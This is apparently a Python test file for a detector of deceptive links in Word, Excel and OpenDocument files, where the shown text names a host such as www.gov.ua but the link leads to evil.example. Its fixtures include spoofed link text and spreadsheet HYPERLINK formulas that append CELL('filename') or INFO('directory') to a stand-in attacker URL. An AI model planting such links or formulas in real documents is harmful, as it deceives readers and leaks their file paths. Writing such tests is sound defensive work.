"""Words of links in office files that name another host than that to which they lead."""

import pytest

from office_files import office
from strategy.checking.attached.active_content import in_document

TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL = "https://evil.example/"
FIELD = (
    "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>HYPERLINK \"https://evil.example/\"</w:instrText>"
    "</w:r><w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:t>{}</w:t></w:r>"
    "<w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"
)


def leading(target: str) -> str:
    link = f"<Relationship Id='r1' Type='{TYPE}/hyperlink' Target='{target}' TargetMode='External'/>"
    return f"<Relationships>{link}</Relationships>"


def text(inside: str, target: str = EVIL) -> str | None:
    said = f"<w:document xmlns:w='w' xmlns:a='a' xmlns:r='{TYPE}'>{inside}</w:document>"
    parts = {"word/document.xml": said, "word/_rels/document.xml.rels": leading(target)}
    return in_document(office(**parts), ".docx")


def opened(inside: str, kind: str = ".odt") -> str | None:
    names = "xmlns:text='x' xmlns:table='t' xmlns:l='http://www.w3.org/1999/xlink' xmlns:o='o'"
    return in_document(office(kind, **{"content.xml": f"<o:x {names}>{inside}</o:x>"}), kind)


def sheet(cells: str, links: str = "", *strings: str) -> str | None:
    linked = f"<hyperlinks>{links}</hyperlinks>"
    parts = {
        "xl/worksheets/s.xml": f"<x xmlns:r='{TYPE}'><sheetData><row r='1'>{cells}</row></sheetData>{linked}</x>",
        "xl/worksheets/_rels/s.xml.rels": leading(EVIL),
        "xl/sharedStrings.xml": f"<sst>{''.join(f'<si>{one}</si>' for one in strings)}</sst>",
    }
    return in_document(office(".xlsx", **parts), ".xlsx")


def computed(formula: str, shown: str = "") -> str | None:
    return sheet(f"<c r='A1' t='str'><f>{formula}</f><v>{shown}</v></c>")


@pytest.mark.parametrize(
    "inside",
    [
        "<w:hyperlink r:id='r1'><w:r><w:t>https://www.</w:t></w:r><w:r><w:t>gov.ua/</w:t></w:r></w:hyperlink>",
        "<w:hyperlink r:id='r1' w:tooltip='www.gov.ua'><w:t>x</w:t></w:hyperlink>",
        "<w:hyperlink r:id='r1'><w:t>www.g</w:t></w:hyperlink><w:hyperlink r:id='r1'><w:t>ov.ua</w:t></w:hyperlink>",
        FIELD.format("www.gov.ua"),
        f"<w:fldSimple w:instr='HYPERLINK \"{EVIL}\"'><w:r><w:t>www.gov.ua</w:t></w:r></w:fldSimple>",
        "<a:r><a:rPr><a:hlinkClick r:id='r1'/></a:rPr><a:t>www.gov.ua</a:t></a:r>",
        "<a:sp><a:nv><a:cNvPr><a:hlinkClick r:id='r1'/></a:cNvPr></a:nv><a:t>www.gov.ua</a:t></a:sp>",
        f"<w:shape href='{EVIL}'><w:textbox><w:t>www.gov.ua</w:t></w:textbox></w:shape>",
        "<w:hyperlink r:id='r1'><w:t>www\u2024gov\u200b.ua</w:t></w:hyperlink>",
    ],
)
def test_no_link_of_a_text_names_another_host(inside: str) -> None:
    assert text(inside)


def test_nor_where_the_address_is_none_of_a_page() -> None:
    assert text("<w:hyperlink r:id='r1'><w:t>www.gov.ua</w:t></w:hyperlink>", r"HTTPS://evil.example\x y")


@pytest.mark.parametrize(
    ("inside", "target"),
    [
        ("<w:hyperlink r:id='r1'><w:t>https://www.evil.example/a, звіт.pdf, м.Київ</w:t></w:hyperlink>", EVIL),
        (
            "<w:hyperlink r:id='r1'><w:t>evi</w:t></w:hyperlink>"
            "<w:hyperlink r:id='r1'><w:t>l.example</w:t></w:hyperlink>",
            EVIL,
        ),
        ("<w:hyperlink w:anchor='_Toc1'><w:t>Сайт gov.ua</w:t></w:hyperlink>", EVIL),
        (
            "<w:hyperlink r:id='r1'><w:t>ivan.franko@a.example</w:t></w:hyperlink>",
            "mailto:ivan.franko@a.example?body=x y",
        ),
        (FIELD.format("evil.example") + "<w:t>gov.ua</w:t>", EVIL),
    ],
)
def test_what_says_the_truth_stays(inside: str, target: str) -> None:
    assert text(inside, target) is None


@pytest.mark.parametrize(
    ("inside", "kind"),
    [
        (f"<text:a l:href='{EVIL}'>www.<text:span>gov</text:span>.ua</text:a>", ".odt"),
        ("<text:a l:href='mailto:a@evil.example'>info@gov.ua</text:a>", ".odt"),
        (f"<text:a l:href='{EVIL}'>www.gov<o:annotation><text:p>zz</text:p></o:annotation>.ua</text:a>", ".odt"),
        (
            f"<table:table-cell table:formula='of:=HYPERLINK(&quot;{EVIL}&quot;;[.A1])'><text:p>www.gov.ua</text:p>"
            "</table:table-cell>",
            ".ods",
        ),
    ],
)
def test_no_link_of_opendocument_does(inside: str, kind: str) -> None:
    assert opened(inside, kind)


@pytest.mark.parametrize(
    ("cell", "place", "string"),
    [
        ("", "A1' display='https://www.gov.ua/", ""),
        ("<c r='A1' t='s'><v>0</v></c>", "A1", "<r><t>www.</t></r><r><t>gov.ua</t></r>"),
        ("<c r='B1' t='s'><v>0</v></c>", "A1:C3", "<t>www.gov.ua</t>"),
        ("<c t='inlineStr'><is><t>www.gov.ua</t></is></c>", "A1", ""),
    ],
)
def test_no_cell_that_is_a_link_does(cell: str, place: str, string: str) -> None:
    link = f"<hyperlink r:id='r1' ref='{place}'/>"
    assert sheet(cell, link, string)
    assert (
        sheet(cell.replace("gov.ua", "«А»"), link.replace("www.gov.ua", "«А»"), string.replace("gov.ua", "«А»")) is None
    )


@pytest.mark.parametrize(
    ("formula", "shown"),
    [
        (f'HYPERLINK("{EVIL}","https://www."&amp;"gov.ua")', ""),
        (f'HYPERLINK("{EVIL}",B1)', "www.gov.ua"),
        (f'HYPERLINK("{EVIL}"&amp;CELL("filename"),"x")', ""),
        (f'HYPERLINK("{EVIL}"&amp;INFO("directory"),"x")', ""),
        (f'HYPERLINK("{EVIL}"&amp;B1)+LEN(CELL("file"&amp;"name"))', ""),
    ],
)
def test_no_link_of_a_formula_does_or_tells_of_the_reader(formula: str, shown: str) -> None:
    assert computed(formula, shown)


@pytest.mark.parametrize(
    "formula",
    [
        f'HYPERLINK("{EVIL}"&amp;A1,"№ "&amp;A1)',
        f'HYPERLINK("{EVIL}?"&amp;CELL("row",A1),"№ "&amp;A1)',
        'HYPERLINK("#"&amp;CELL("filename",A1),"№ "&amp;A1)',
        'MID(CELL("filename",A1),FIND("]",A1),31)',
    ],
)
def test_other_links_of_formulas_stay(formula: str) -> None:
    assert computed(formula, "№ 5") is None


@pytest.mark.parametrize(
    "place", [r"[\\h\s]Аркуш!A1", "[b.xlsx]A!A1", r"\\h\s", "http://a.example/", "file:x", "//h/s"]
)
def test_a_place_in_the_workbook_is_in_no_other(place: str) -> None:
    assert sheet("", f"<hyperlink ref='A1' location='{place}'/>") == place


@pytest.mark.parametrize("place", ["'Аркуш 1'!A1:B2", "AA10:AB20", "area-1", "!a/b#c"])
def test_places_within_the_workbook_stay(place: str) -> None:
    assert sheet("", f'<hyperlink ref="A1" location="{place}"/>') is None
